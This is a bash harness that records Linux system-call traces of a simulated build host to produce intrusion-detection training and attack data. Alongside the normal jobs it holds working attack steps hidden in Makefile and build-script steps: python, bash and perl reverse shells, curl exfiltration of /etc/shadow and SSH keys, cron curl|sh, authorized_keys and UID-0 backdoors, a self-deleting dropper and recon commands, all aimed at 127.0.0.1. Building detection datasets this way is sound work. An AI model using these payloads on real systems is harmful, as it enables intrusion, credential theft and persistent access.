#!/bin/bash
# record.sh - record a second Vigil Linux system-call corpus: a build / batch host.
#
#   sudo bash Benchmarks/tools-corpus/record.sh [OUTDIR]   # everything (~2-3 min on 2 vCPUs)
#   PHASES="normal" bash record.sh                # only the normal job schedule
#   PHASES="attack" bash record.sh                # only attacks
#   PHASES=attack ATTACKS_ONLY=1 ATTACKS="dropper" bash record.sh   # redo one attack type
#   SEED=7 (default) seeds every random choice (job schedule, arguments, sizes,
#          attack variations) so reruns give the same workload
#   N_JOBS=320 (default) normal jobs; NORMAL_MAX_SEC=720 stops scheduling early
#   N_ATTACK=6 (default) instances per attack type
#
# Output (ADFA-LD layout, one process = one .trace = one line of x86_64
# syscall numbers separated by spaces), same as Benchmarks/linux-corpus:
#   OUTDIR/train/<prog>_jNNN_pK.trace   ~40% of normal processes
#   OUTDIR/validation/...               ~60% of normal processes
#   OUTDIR/attack/<case>/<name>.trace   every process of one attack instance
#                                       (<case> = <type>_<n>)
#   OUTDIR/corpus.json                  {"syscalls": "linux-x86_64"}
#   OUTDIR/normal_schedule.txt          the drawn jobs: name, user, command
# OUTDIR defaults to /var/tmp/vigil-tools-corpus. Raw strace output is kept in
# OUTDIR.raw/ (deleted unless KEEP_RAW=1).
#
# Unlike linux-corpus (sshd/vsftpd/CGI web app with seeded clients), this models
# a build / batch host: a seeded random schedule of short jobs drawn with uneven
# frequencies (text pipelines, python scripts, git, gcc/make, tar/gzip/xz, curl
# against a local http.server, file shuffles, sha256sum/md5sum, sqlite3, perl,
# date/ls/stat/du/df, a logrotate-like script; some common, some rare). Every job
# is its own `strace -f -ff -o DIR/t` run, mostly as the test user, some as root.
# Attacks are launched the way a compromised build job would be (a malicious
# step in a Makefile or a python build script run by the same job runner):
# reverse_shell, exfiltration, persistence, dropper, recon. Everything stays on
# 127.0.0.1. Conversion and the train/validation split reuse
# Benchmarks/linux-corpus/strace2trace.py unchanged; the reverse-shell handler
# is Benchmarks/linux-corpus/attack/listener.py.
#
# This is an evaluation harness, not part of Vigil: the attacks really read
# /etc/shadow, create users and plant a crontab / authorized_keys entry. Run it
# only on a disposable machine (a VM), never on a host you care about.
#
# Needs root, Debian/Ubuntu x86_64. Installs (apt-get, only if missing): strace
# gcc make git sqlite3 xz-utils curl perl iproute2 net-tools procps openssh-client.
# Side effects, all undone at the end (trap, also on failure): user 'vigiltools'
# (test account, with a dummy ~/.ssh key), users evilN made by the persistence
# attacks, /var/spool/cron/crontabs/vigiltools, untraced python servers on
# 127.0.0.1 ports 18931 (job file server), 18932 (attacker file server), 18933
# (exfiltration receiver), 18940+ (reverse-shell listener), scratch dir OUTDIR.run
# and /tmp/.vt_* files.

set -u
R=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
LC=$R/../linux-corpus
OUT=${1:-/var/tmp/vigil-tools-corpus}
RAW=$OUT.raw
RUN=$OUT.run
PY=/usr/bin/python3
TUSER=vigiltools
H=/home/$TUSER
SEED=${SEED:-7}
N_JOBS=${N_JOBS:-320}
NORMAL_MAX_SEC=${NORMAL_MAX_SEC:-720}
N_ATTACK=${N_ATTACK:-6}
PHASES=${PHASES:-"normal attack"}
ATTACKS=${ATTACKS:-"reverse_shell exfiltration persistence dropper recon"}
HTTP_PORT=18931 ATK_PORT=18932 RCV_PORT=18933 LST_PORT=18940
CRON=/var/spool/cron/crontabs/$TUSER
CONV="$PY $LC/strace2trace.py"
JOBPATH=/usr/local/bin:/usr/bin:/bin:/usr/sbin:/sbin
log() { echo "[$(date +%T)] $*"; }
RANDOM=$SEED                     # bash's generator: every choice below is seeded

# ----------------------------------------------------------------- setup ----
install_deps() {
    local need="" b
    for b in strace:strace gcc:gcc make:make git:git sqlite3:sqlite3 xz:xz-utils curl:curl \
             perl:perl ss:iproute2 netstat:net-tools ps:procps ssh-keygen:openssh-client; do
        command -v "${b%%:*}" >/dev/null 2>&1 || need="$need ${b##*:}"
    done
    if [ -n "$need" ]; then
        apt-get update -qq && DEBIAN_FRONTEND=noninteractive apt-get install -y -qq $need
    fi
    true
}

setup() {
    rm -rf "$RUN"; mkdir -p "$RUN/www" "$RUN/attacker" "$RUN/loot" "$RUN/rootwork"
    id $TUSER >/dev/null 2>&1 || useradd -m -s /bin/bash $TUSER
    mkdir -p $H/data $H/scripts $H/src $H/bin $H/proj $H/logs $H/tmp $H/out $H/.ssh
    ssh-keygen -q -t ed25519 -N '' -C "$TUSER@buildhost" -f $H/.ssh/id_ed25519 <<<y >/dev/null 2>&1 ||
        printf -- '-----BEGIN OPENSSH PRIVATE KEY-----\ndummy\n-----END OPENSSH PRIVATE KEY-----\n' > $H/.ssh/id_ed25519
    echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDummyDeployKey deploy@ci" > $H/.ssh/authorized_keys
    chmod 700 $H/.ssh; chmod 600 $H/.ssh/*
    printf '[user]\n\tname = Vigil Tools\n\temail = tools@example.invalid\n[init]\n\tdefaultBranch = main\n' > $H/.gitconfig
    # data files, scripts and sources, all from SEED
    $PY - "$H" "$RUN" "$SEED" <<'EOF'
import json, os, random, sqlite3, sys
h, run, seed = sys.argv[1], sys.argv[2], int(sys.argv[3])
random.seed(seed)
words = ("alpha beta gamma delta epsilon build test deploy cache error warning ok "
         "compile link archive fetch commit merge branch release node disk").split()
for i in range(8):
    with open("%s/data/f%d.txt" % (h, i), "w") as f:
        for _ in range(random.randint(50, 2500)):
            f.write("%s %s %d %s\n" % (random.choice(words), random.choice(words), random.randint(0, 999), random.choice(words)))
items = [{"id": i, "name": random.choice(words), "size": random.randint(1, 10**6), "tags": random.sample(words, 3)}
         for i in range(random.randint(300, 900))]
json.dump(items, open(h + "/data/items.json", "w"))
with open(h + "/data/table.csv", "w") as f:
    f.write("id,name,city,score,when\n")
    for i in range(random.randint(500, 3000)):
        f.write("%d,%s,%s,%d,2026-%02d-%02d\n" % (i, random.choice(words), random.choice(["berlin", "oslo", "rome", "paris", "lima"]),
                random.randint(0, 100), random.randint(1, 12), random.randint(1, 28)))
db = sqlite3.connect(h + "/data/builds.db")
db.execute("create table builds(id integer primary key, target text, status text, secs real, day int)")
db.executemany("insert into builds(target,status,secs,day) values(?,?,?,?)",
               [(random.choice(words), random.choice(["ok", "ok", "ok", "fail"]), random.random() * 300, random.randint(1, 365))
                for _ in range(2000)])
db.commit(); db.close()
with open(h + "/logs/app.log", "w") as f:
    for i in range(800):
        f.write("2026-12-%02d %02d:%02d build %s %s\n" % (1 + i % 28, i % 24, i % 60, random.choice(["INFO", "WARN", "ERROR"]), random.choice(words)))
for i in range(6):   # files the job http server hands out
    open("%s/www/pkg%d.txt" % (run, i), "w").write("\n".join(random.choice(words) * random.randint(1, 20) for _ in range(random.randint(10, 4000))) + "\n")
json.dump({"version": seed, "artifacts": ["pkg%d.txt" % i for i in range(6)]}, open(run + "/www/index.json", "w"))
EOF
    cat > $H/scripts/jsonproc.py <<'EOF'
import json, sys
items = json.load(open(sys.argv[1])); k = int(sys.argv[2])
big = sorted(items, key=lambda x: -x["size"])[:k]
tags = {}
for it in items:
    for t in it["tags"]: tags[t] = tags.get(t, 0) + 1
json.dump({"top": big, "tags": tags}, open(sys.argv[3], "w"), indent=1)
print(len(big), sum(x["size"] for x in big))
EOF
    cat > $H/scripts/csvsort.py <<'EOF'
import csv, sys
rows = list(csv.DictReader(open(sys.argv[1])))
rows.sort(key=lambda r: (r[sys.argv[2]], r["id"]))
w = csv.DictWriter(open(sys.argv[3], "w", newline=""), fieldnames=rows[0].keys()); w.writeheader(); w.writerows(rows)
print(len(rows))
EOF
    cat > $H/scripts/sqlq.py <<'EOF'
import sqlite3, sys
db = sqlite3.connect(sys.argv[1]); k = int(sys.argv[2])
for row in db.execute("select target, status, count(*), avg(secs) from builds where day > ? group by target, status order by 3 desc limit ?", (k, 10)):
    print(*row)
if k % 3 == 0:
    db.execute("insert into builds(target,status,secs,day) values('job', 'ok', ?, ?)", (k * 1.5, k)); db.commit()
EOF
    cat > $H/scripts/logrotate.sh <<'EOF'
#!/bin/bash
# logrotate-like: app.log -> app.log.1 -> app.log.2.gz ... keep N
d=$1; keep=${2:-4}
cd "$d" || exit 1
rm -f app.log.$keep.gz
for i in $(seq $((keep - 1)) -1 2); do [ -f app.log.$i.gz ] && mv app.log.$i.gz app.log.$((i + 1)).gz; done
[ -f app.log.1 ] && gzip -f app.log.1 && mv app.log.1.gz app.log.2.gz
[ -f app.log ] && mv app.log app.log.1
: > app.log; chmod 644 app.log
ls -l
EOF
    local i
    for i in 0 1 2 3 4; do
        cat > $H/src/prog$i.c <<EOF
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
int main(int argc, char **argv) {
    long n = argc > 1 ? atol(argv[1]) : 1000, acc = $i;
    char *buf = malloc(4096);
    for (long k = 0; k < n; k++) { acc = (acc * 31 + k) % 1000003; buf[k % 4096] = (char)acc; }
    FILE *f = fopen(argc > 2 ? argv[2] : "/dev/null", "w");
    if (f) { fprintf(f, "%ld %d\n", acc, (int)strlen(buf)); fclose(f); }
    printf("prog$i %ld\n", acc); free(buf); return 0;
}
EOF
    done
    for i in 0 1 2; do
        printf 'int util%d(int x) { return x * %d + 1; }\n' $i $((i + 3)) > $H/proj/util$i.c
    done
    printf 'int util0(int);int util1(int);int util2(int);\n#include <stdio.h>\nint main(void){printf("%%d\\n", util0(1)+util1(2)+util2(3));return 0;}\n' > $H/proj/main.c
    printf 'CC=gcc\nCFLAGS=-O1 -Wall\nOBJS=main.o util0.o util1.o util2.o\napp: $(OBJS)\n\t$(CC) -o $@ $(OBJS)\n%%.o: %%.c\n\t$(CC) $(CFLAGS) -c $<\nclean:\n\trm -f *.o app\n' > $H/proj/Makefile
    chmod +x $H/scripts/logrotate.sh
    chown -R $TUSER:$TUSER $H
    runuser -u $TUSER -- bash -c "cd $H && git init -q repo && cd repo && cp ../data/f0.txt ../data/f1.txt . && git add -A && git commit -qm initial" >/dev/null
    cp $H/data/*.txt "$RUN/rootwork/"
    mkdir -p "$RUN/rootwork/logs"; cp $H/logs/app.log "$RUN/rootwork/logs/"
    cp $H/scripts/logrotate.sh "$RUN/rootwork/"
    # attacker-side files (served untraced on ATK_PORT)
    cat > "$RUN/attacker/upd.sh" <<'EOF'
#!/bin/sh
# dropper stage: "busy" work, peek at /proc, leave a marker, delete itself
i=0; while [ $i -lt 3000 ]; do i=$((i + 1)); done
head -c 64 /dev/urandom | od -An -tx1 > /dev/null
cat /proc/cpuinfo /proc/meminfo /proc/self/status > /dev/null
echo "dropped $(id -un) $(date +%s)" > /tmp/.vt_dropped_sh
rm -f "$0"
EOF
    cat > "$RUN/attacker/upd.c" <<'EOF'
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>
#include <fcntl.h>
#include <sys/random.h>
int main(int argc, char **argv) {
    unsigned char b[256]; unsigned long acc = 0; char buf[4096];
    for (int r = 0; r < 200; r++) { getrandom(b, sizeof b, 0); for (int k = 0; k < 256; k++) acc = acc * 131 + b[k]; }
    const char *p[] = {"/proc/cpuinfo", "/proc/meminfo", "/proc/self/maps", "/proc/loadavg", "/proc/uptime"};
    for (int i = 0; i < 5; i++) { int fd = open(p[i], O_RDONLY); if (fd >= 0) { while (read(fd, buf, sizeof buf) > 0) acc++; close(fd); } }
    for (volatile long k = 0; k < 30000000; k++) acc ^= k;
    FILE *f = fopen("/tmp/.vt_dropped_bin", "w"); if (f) { fprintf(f, "%lu\n", acc); fclose(f); }
    unlink(argv[0]); return 0;
}
EOF
    gcc -O1 -o "$RUN/attacker/updbin" "$RUN/attacker/upd.c"
    cat > "$RUN/receiver.py" <<'EOF'
import http.server, sys, os, time
d = sys.argv[2]
class H(http.server.BaseHTTPRequestHandler):
    def do_POST(self):
        n = int(self.headers.get("Content-Length", 0)); data = self.rfile.read(n)
        open(os.path.join(d, "loot_%d" % time.time_ns()), "wb").write(data)
        self.send_response(200); self.end_headers(); self.wfile.write(b"ok\n")
    def log_message(self, *a): pass
http.server.ThreadingHTTPServer(("127.0.0.1", int(sys.argv[1])), H).serve_forever()
EOF
    CRON_MADE=""
    [ -d /var/spool/cron ] || CRON_MADE=/var/spool/cron
    [ -z "$CRON_MADE" ] && [ ! -d /var/spool/cron/crontabs ] && CRON_MADE=/var/spool/cron/crontabs
    mkdir -p "$(dirname $CRON)"
    echo "# m h dom mon dow command" > $CRON; echo "30 2 * * * $H/scripts/logrotate.sh $H/logs" >> $CRON
    chown $TUSER $CRON; chmod 600 $CRON
    cp $CRON "$RUN/cron.orig"; cp $H/.ssh/authorized_keys "$RUN/ak.orig"
}

wait_port() { for _ in $(seq 100); do ss -ltn | grep -q "127.0.0.1:$1 " && return 0; sleep 0.1; done; log "port $1 not up"; return 1; }
start_servers() {   # untraced: the job file server, attacker file server, exfil receiver
    (cd "$RUN/www" && exec $PY -m http.server $HTTP_PORT --bind 127.0.0.1 >/dev/null 2>&1) & HTTP_PID=$!
    (cd "$RUN/attacker" && exec $PY -m http.server $ATK_PORT --bind 127.0.0.1 >/dev/null 2>&1) & ATK_PID=$!
    $PY "$RUN/receiver.py" $RCV_PORT "$RUN/loot" >/dev/null 2>&1 & RCV_PID=$!
    wait_port $HTTP_PORT; wait_port $ATK_PORT; wait_port $RCV_PORT
}

# traced DIR USER CMD : one job = one strace run, clean environment, as USER (or root)
traced() {
    local dir=$1 user=$2 cmd=$3 home=$H uopt=()
    rm -rf "$dir"; mkdir -p "$dir"
    if [ "$user" = root ]; then home=/root; else uopt=(-u "$user"); fi
    (cd "$home" && timeout -k 5 90 strace -f -ff "${uopt[@]}" -o "$dir/t" \
        env -i PATH=$JOBPATH HOME=$home USER=$user LANG=C.UTF-8 /bin/bash -c "$cmd") \
        >>"$RUN/jobs.out" 2>>"$RUN/jobs.err"
}

# ------------------------------------------------------- normal workload ----
# Uneven frequencies: weight = number of slots in the draw table.
WEIGHTS="text:20 python:14 git:12 files:10 curl:9 archive:8 cc:7 sysinfo:7 hash:5 sqlite:4 perl:3 logrotate:2"
TABLE=()
for kw in $WEIGHTS; do for _ in $(seq ${kw##*:}); do TABLE+=("${kw%%:*}"); done; done
WORDS=(alpha beta build error warning deploy cache merge node commit)

# job_cmd KIND J -> sets JUSER and JCMD (all choices from $RANDOM, i.e. SEED)
job_cmd() {
    local k=$1 j=$2 f="data/f$((RANDOM % 8)).txt" w=${WORDS[$((RANDOM % 10))]} n
    JUSER=$TUSER
    case $k in
    text) case $((RANDOM % 7)) in
        0) JCMD="grep -c $w $f; grep -n $w $f | head -n $((1 + $((RANDOM % 20))))" ;;
        1) JCMD="sort $f | uniq -c | sort -rn | head -n $((3 + $((RANDOM % 10))))" ;;
        2) JCMD="awk '{s+=\$3} END {print s, NR}' $f" ;;
        3) JCMD="sed -n '$((1 + $((RANDOM % 30)))),$((40 + $((RANDOM % 200))))p' $f | wc -l" ;;
        4) JCMD="find data -name '*.txt' -size +$((RANDOM % 40))k | xargs -r wc -l | sort -n" ;;
        5) JCMD="tr -s ' ' '\n' < $f | sort | uniq | wc -w" ;;
        6) JCMD="cut -d' ' -f$((1 + $((RANDOM % 4)))) $f | sort -u | head; sed 's/$w/X/g' $f > tmp/sed.out; wc -c tmp/sed.out" ;;
        esac ;;
    python) case $((RANDOM % 3)) in
        0) JCMD="python3 scripts/jsonproc.py data/items.json $((5 + $((RANDOM % 200)))) out/top.json" ;;
        1) local cols=(id name city score when); JCMD="python3 scripts/csvsort.py data/table.csv ${cols[$((RANDOM % 5))]} out/sorted.csv" ;;
        2) JCMD="python3 scripts/sqlq.py data/builds.db $((RANDOM % 365))" ;;
        esac ;;
    git) case $((RANDOM % 5)) in
        0|1) JCMD="cd repo && echo '$w $j' >> notes$((RANDOM % 4)).txt && git add -A && git commit -qm 'job $j: $w'" ;;
        2) JCMD="cd repo && git log --oneline -n $((2 + $((RANDOM % 20)))) && git log --stat -n 2 | tail -n 5" ;;
        3) JCMD="cd repo && sed -i '$((1 + $((RANDOM % 20))))s/.*/changed $j/' f0.txt && git diff --stat && git diff | head -n 20 && git checkout -- ." ;;
        4) JCMD="rm -rf tmp/g$j && git init -q tmp/g$j && cd tmp/g$j && cp ../../$f . && git add -A && git commit -qm s && git status --short && cd ../.. && rm -rf tmp/g$j" ;;
        esac ;;
    files) n=$((RANDOM % 1000)); case $((RANDOM % 3)) in
        0) JCMD="mkdir -p tmp/d$n/sub && cp data/f*.txt tmp/d$n/ && mv tmp/d$n/f1.txt tmp/d$n/sub/ && ls -R tmp/d$n && rm -rf tmp/d$n" ;;
        1) JCMD="cp -r src tmp/s$n && rm tmp/s$n/prog$((RANDOM % 5)).c && mv tmp/s$n tmp/t$n && rm -rf tmp/t$n" ;;
        2) JCMD="mkdir -p out/a$n && for i in \$(seq $((2 + $((RANDOM % 15))))); do cp $f out/a$n/c\$i; done; ls out/a$n | wc -l; rm -rf out/a$n" ;;
        esac ;;
    curl) n=$((RANDOM % 6)); case $((RANDOM % 4)) in
        0) JCMD="curl -s -o tmp/pkg.txt http://127.0.0.1:$HTTP_PORT/pkg$n.txt && wc -l tmp/pkg.txt" ;;
        1) JCMD="curl -s http://127.0.0.1:$HTTP_PORT/index.json | python3 -m json.tool" ;;
        2) JCMD="curl -s -I http://127.0.0.1:$HTTP_PORT/pkg$n.txt; curl -s -o /dev/null -w '%{http_code}\n' http://127.0.0.1:$HTTP_PORT/missing$j" ;;
        3) JCMD="curl -s http://127.0.0.1:$HTTP_PORT/ | grep -c href" ;;
        esac ;;
    archive) case $((RANDOM % 4)) in
        0) JCMD="tar czf tmp/a$j.tgz data src && tar tzf tmp/a$j.tgz | wc -l && rm tmp/a$j.tgz" ;;
        1) JCMD="mkdir -p tmp/x$j && tar cf - src | tar xf - -C tmp/x$j && ls tmp/x$j/src && rm -rf tmp/x$j" ;;
        2) JCMD="xz -k -$((RANDOM % 4)) -c $f > tmp/f.xz && xz -d -c tmp/f.xz | md5sum && rm tmp/f.xz" ;;
        3) JCMD="gzip -$((1 + $((RANDOM % 9)))) -c $f | gunzip -c | wc -c" ;;
        esac
        [ $((RANDOM % 4)) = 0 ] && { JUSER=root; JCMD="cd $RUN/rootwork && tar cJf /var/tmp/.vt_backup$j.txz *.txt logs && tar tJf /var/tmp/.vt_backup$j.txz && rm -f /var/tmp/.vt_backup$j.txz"; } ;;
    cc) n=$((RANDOM % 5)); case $((RANDOM % 3)) in
        0|1) JCMD="gcc -O$((RANDOM % 3)) -o bin/prog$n src/prog$n.c && ./bin/prog$n $((1000 * (1 + $((RANDOM % 500))))) out/p$n.txt" ;;
        2) JCMD="cd proj && make -s clean && make -s && ./app" ;;
        esac ;;
    sysinfo) case $((RANDOM % 5)) in
        0) JCMD="date; date -u +%s; ls -la" ;;
        1) JCMD="stat $f data; ls -l data | sort -k5 -n | tail -n 3" ;;
        2) JCMD="du -sh data src repo; df -h /" ;;
        3) JCMD="ls -lR /usr/include/linux | head -n $((10 + $((RANDOM % 50)))); uname -r" ;;
        4) JCMD="id; hostname; uptime; nproc" ;;
        esac
        [ $((RANDOM % 3)) = 0 ] && { JUSER=root; JCMD="df -h; du -sh /var/log $RUN/rootwork; date; ls -l /var/tmp"; } ;;
    hash) case $((RANDOM % 3)) in
        0) JCMD="sha256sum data/*.txt > out/SHA256SUMS && sha256sum -c --quiet out/SHA256SUMS && echo ok" ;;
        1) JCMD="md5sum src/*.c data/items.json" ;;
        2) JCMD="find data -type f | sort | xargs sha256sum | sha256sum" ;;
        esac
        [ $((RANDOM % 3)) = 0 ] && { JUSER=root; JCMD="cd $RUN/rootwork && sha256sum *.txt | tee sums && md5sum -c --quiet <(md5sum *.txt)"; } ;;
    sqlite) case $((RANDOM % 3)) in
        0) JCMD="sqlite3 data/builds.db 'select status, count(*) from builds group by status;'" ;;
        1) JCMD="sqlite3 -csv data/builds.db 'select target, max(secs) from builds where day < $((1 + $((RANDOM % 365)))) group by target;' | sort" ;;
        2) JCMD="sqlite3 data/builds.db \"insert into builds(target,status,secs,day) values('$w','ok',$((RANDOM % 300)),$((RANDOM % 365))); select count(*) from builds;\"" ;;
        esac ;;
    perl) case $((RANDOM % 3)) in
        0) JCMD="perl -ne 'print if /$w/' $f | wc -l" ;;
        1) JCMD="perl -lane '\$s += \$F[2]; END { print \$s }' $f" ;;
        2) JCMD="perl -pe 's/(\\w+)/\\u\$1/g' $f > tmp/perl.out && head -n 3 tmp/perl.out" ;;
        esac ;;
    logrotate)
        JCMD="seq $((100 + $((RANDOM % 3000)))) | awk '{print \"2026-12-07 line\", \$1}' >> logs/app.log && scripts/logrotate.sh logs $((3 + $((RANDOM % 3))))"
        [ $((RANDOM % 2)) = 0 ] && { JUSER=root; JCMD="cd $RUN/rootwork && seq $((100 + $((RANDOM % 2000)))) >> logs/app.log && ./logrotate.sh logs 4"; } ;;
    esac
}

record_normal() {
    log "normal: $N_JOBS jobs (SEED=$SEED)"
    local j k t0=$SECONDS name
    : > "$RUN/schedule.txt"
    for j in $(seq 0 $((N_JOBS - 1))); do
        if [ $((SECONDS - t0)) -ge $NORMAL_MAX_SEC ]; then log "normal: time limit, stopping after $j jobs"; break; fi
        k=${TABLE[$((RANDOM % ${#TABLE[@]}))]}
        job_cmd $k $j
        name="${k}_j$(printf %03d $j)"
        echo "$name $JUSER $JCMD" >> "$RUN/schedule.txt"
        traced "$RAW/normal/$name" "$JUSER" "$JCMD"
        $CONV "$RAW/normal/$name" "$OUT" "$name" --split train,validation >>"$RUN/conv.log"
        [ $((j % 25)) = 0 ] && log "  job $j ($((SECONDS - t0))s)"
    done
    cp "$RUN/schedule.txt" "$OUT/normal_schedule.txt" 2>/dev/null
    log "normal: job kinds: $(awk '{print $1}' "$RUN/schedule.txt" | sed 's/_j.*//' | sort | uniq -c | sort -rn | awk '{printf "%s=%s ", $2, $1}')"
}

# --------------------------------------------------------------- attacks ----
case_dir() { echo "$OUT/attack/$1"; }
# build_dir N : a fresh build directory with a legitimate compile step
build_dir() {   # build_dir CASE N
    local d="$RUN/build_$1"; rm -rf "$d"; mkdir -p "$d"
    cp $H/src/prog$(($2 % 5)).c "$d/main.c"; chown -R $TUSER "$d"; chmod 755 "$RUN"; echo "$d"
}
# run_build CASE USER DIR STEP N : the malicious STEP is inside a Makefile (odd N)
# or a python build script (even N); the job runner traces it like any build.
run_build() {
    local c=$1 user=$2 d=$3 step=$4 n=$5
    printf '%s\n' "$step" > "$d/step.sh"
    if [ $((n % 2)) = 1 ]; then
        printf 'all: app post\napp: main.c\n\tgcc -O1 -o app main.c\npost: app\n\t./app 1000 out.txt\n\t@sh ./step.sh\n' > "$d/Makefile"
        traced "$RAW/attack/$c" "$user" "cd $d && make -s"
    else
        printf 'import subprocess\nsubprocess.check_call(["gcc", "-O1", "-o", "app", "main.c"])\nsubprocess.call(["./app", "1000", "out.txt"])\nsubprocess.call(["sh", "./step.sh"])\nprint("build ok")\n' > "$d/build.py"
        traced "$RAW/attack/$c" "$user" "cd $d && python3 build.py"
    fi
    chown -R $TUSER "$d"
    $CONV "$RAW/attack/$c" "$(case_dir $c)" "build" >>"$RUN/conv.log"
}

attack_reverse_shell() {
    local n=$1 c=reverse_shell_$1 port=$((LST_PORT + $1)) d step
    d=$(build_dir $c $n)
    printf 'id\nuname -a\ncat /etc/passwd\n' > "$RUN/rs_cmds_$n.txt"
    $PY $LC/attack/listener.py $port "$RUN/rs_cmds_$n.txt" "$RUN/rs_$n.log" & local lst=$!
    wait_port $port
    case $((n % 3)) in
    0) step="python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"127.0.0.1\",$port));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call([\"/bin/sh\",\"-i\"])'" ;;
    1) step="bash -c 'exec bash -i >& /dev/tcp/127.0.0.1/$port 0>&1'" ;;
    2) step="perl -e 'use Socket;\$i=\"127.0.0.1\";\$p=$port;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in(\$p,inet_aton(\$i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");};'" ;;
    esac
    run_build $c $TUSER "$d" "$step" $n
    wait $lst 2>/dev/null
    grep -q "$TUSER" "$RUN/rs_$n.log" 2>/dev/null && echo "  reverse shell $n: commands ran" || echo "  WARNING: reverse shell $n incomplete"
}

attack_exfiltration() {   # build runs as root: shadow + the user's ssh key, tar+gzip, POST
    local n=$1 c=exfiltration_$1 d step a=/tmp/.vt_cache$1.tgz
    d=$(build_dir $c $n)
    case $((n % 3)) in
    0) step="tar czf $a /etc/shadow $H/.ssh/id_ed25519 2>/dev/null; curl -s -X POST --data-binary @$a http://127.0.0.1:$RCV_PORT/upload; rm -f $a" ;;
    1) step="cp /etc/shadow /tmp/.vt_s$n; cp $H/.ssh/id_ed25519 /tmp/.vt_k$n; tar cf - /tmp/.vt_s$n /tmp/.vt_k$n 2>/dev/null | gzip -9 > $a; curl -s -F f=@$a http://127.0.0.1:$RCV_PORT/u; rm -f $a /tmp/.vt_s$n /tmp/.vt_k$n" ;;
    2) step="tar czf - /etc/shadow /etc/passwd $H/.ssh 2>/dev/null | base64 -w0 > $a; curl -s -H 'Content-Type: text/plain' --data @$a http://127.0.0.1:$RCV_PORT/telemetry; rm -f $a" ;;
    esac
    local before; before=$(ls "$RUN/loot" | wc -l)
    run_build $c root "$d" "$step" $n
    [ "$(ls "$RUN/loot" | wc -l)" -gt "$before" ] && echo "  exfiltration $n: received" || echo "  WARNING: exfiltration $n: nothing received"
}

attack_persistence() {   # build runs as root: crontab + authorized_keys + new user
    local n=$1 c=persistence_$1 d step u=evil$1
    d=$(build_dir $c $n)
    local job="*/$((5 + n)) * * * * curl -s http://127.0.0.1:$ATK_PORT/upd.sh | sh"
    local key="ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEvilKey$n attacker@evil"
    case $((n % 3)) in
    0) step="echo '$job' >> $CRON; echo '$key' >> $H/.ssh/authorized_keys; useradd -m -s /bin/bash $u; echo '$u:P4ss$n' | chpasswd" ;;
    1) step="(crontab -l -u $TUSER 2>/dev/null || cat $CRON) > /tmp/.vt_c$n; echo '$job' >> /tmp/.vt_c$n; cat /tmp/.vt_c$n > $CRON; rm -f /tmp/.vt_c$n; mkdir -p $H/.ssh; printf '%s\n' '$key' >> $H/.ssh/authorized_keys; useradd -M -o -u 0 -g 0 -s /bin/sh $u" ;;
    2) step="python3 -c \"open('$CRON','a').write('$job\\\\n'); open('$H/.ssh/authorized_keys','a').write('$key\\\\n')\"; adduser --disabled-password --gecos '' $u >/dev/null 2>&1 || useradd -m $u; id $u" ;;
    esac
    run_build $c root "$d" "$step" $n
    local ok=""
    id $u >/dev/null 2>&1 && ok="user "; grep -q "EvilKey$n" $H/.ssh/authorized_keys && ok="${ok}key "; grep -q "/$((5 + n)) " $CRON && ok="${ok}cron"
    echo "  persistence $n: $ok"
    userdel -r -f $u >/dev/null 2>&1
    cp "$RUN/cron.orig" $CRON; cp "$RUN/ak.orig" $H/.ssh/authorized_keys
}

attack_dropper() {   # download to /tmp, chmod +x, run, it deletes itself
    local n=$1 c=dropper_$1 d step f=/tmp/.vt_upd$1
    d=$(build_dir $c $n)
    case $((n % 3)) in
    0) step="curl -s -o $f http://127.0.0.1:$ATK_PORT/updbin && chmod +x $f && $f" ;;
    1) step="curl -s -o $f http://127.0.0.1:$ATK_PORT/upd.sh && chmod +x $f && $f" ;;
    2) step="python3 -c \"import urllib.request,os; open('$f','wb').write(urllib.request.urlopen('http://127.0.0.1:$ATK_PORT/updbin').read()); os.chmod('$f',0o755); os.execv('$f',['$f'])\"" ;;
    esac
    rm -f /tmp/.vt_dropped_*
    run_build $c $TUSER "$d" "$step" $n
    { ls /tmp/.vt_dropped_* >/dev/null 2>&1 && [ ! -e $f ]; } && echo "  dropper $n: ran and deleted itself" || echo "  WARNING: dropper $n incomplete"
    rm -f $f /tmp/.vt_dropped_*
}

attack_recon() {
    local n=$1 c=recon_$1 d step
    d=$(build_dir $c $n)
    step="for s in /proc/[0-9]*/status; do cat \$s; done > /dev/null 2>&1
cat /etc/passwd /etc/group /etc/hosts /etc/os-release /etc/resolv.conf /etc/fstab 2>/dev/null | wc -l
ls -la /etc/cron* /etc/sudoers.d 2>/dev/null | head -n $((5 + n))
id; uname -a; hostname
ps aux | head -n $((10 + n * 3))
ss -tunap 2>/dev/null || netstat -antup
timeout 5 find / -xdev -perm -4000 -type f 2>/dev/null
sudo -n -l 2>/dev/null || echo no-sudo
$([ $((n % 2)) = 0 ] && echo 'cat /proc/cpuinfo /proc/meminfo > /dev/null; ls -la /home /root 2>/dev/null; env')"
    run_build $c $TUSER "$d" "$step" $n
    echo "  recon $n done"
}

record_attacks() {
    local n t
    for n in $(seq 1 $N_ATTACK); do
        log "attacks instance $n"
        for t in $ATTACKS; do
            rm -rf "$(case_dir ${t}_$n)" "$RAW/attack/${t}_$n"
            attack_$t $n
        done
    done
}

# --------------------------------------------------------------- summary ----
summary() {
    $PY "$LC/summary.py" "$OUT"
}

cleanup() {
    local p n
    for p in ${HTTP_PID:-} ${ATK_PID:-} ${RCV_PID:-}; do kill "$p" 2>/dev/null; wait "$p" 2>/dev/null; done
    for n in $(seq 1 30); do id evil$n >/dev/null 2>&1 && userdel -r -f evil$n >/dev/null 2>&1; done
    id $TUSER >/dev/null 2>&1 && userdel -r -f $TUSER >/dev/null 2>&1
    rm -f $CRON /tmp/.vt_* /var/tmp/.vt_*
    [ -n "${CRON_MADE:-}" ] && rm -rf "$CRON_MADE"
    [ "${KEEP_RAW:-0}" = 1 ] && [ -d "$RAW" ] && cp "$RUN"/jobs.* "$RUN"/schedule.txt "$RUN"/conv.log "$RAW/" 2>/dev/null
    rm -rf "$RUN"
